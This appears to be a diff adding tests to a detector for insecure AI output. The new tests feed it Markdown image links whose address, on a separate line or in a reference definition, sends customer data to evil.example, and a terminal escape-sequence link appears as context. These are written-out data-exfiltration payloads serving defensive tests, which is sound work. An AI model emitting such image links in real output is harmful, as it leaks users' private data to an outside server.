@@ -74,6 +74,19 @@ class InsecureOutputDetectorTest {
         assertThat(reported(text)).extracting(Finding::entityType).contains(type);
     }
 
+    /// As renderers of Markdown read them: the address on the next line, or at the end of the text.
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "![x](\nhttps://evil.example/p.png?data=the-customer-is-jane)",
+                "![x](\r\n  <https://evil.example/p.png?data=the-customer-is-jane>)",
+                "![x][1] and more.\n\n[1]: https://evil.example/p.png?data=the-customer-is-jane",
+                "![x]\n\n[x]:\nhttps://evil.example/p.png?data=the-customer-is-jane"
+            })
+    void findsImagesWhoseAddressStandsApart(String text) {
+        assertThat(reported(text)).extracting(Finding::entityType).containsExactly("DATA_EXFILTRATION");
+    }
+
     @Test
     void findsControlSequencesAndBase64() {
         assertThat(reported("done \u001B]8;;https://evil.example\u0007ok")).hasSize(1);
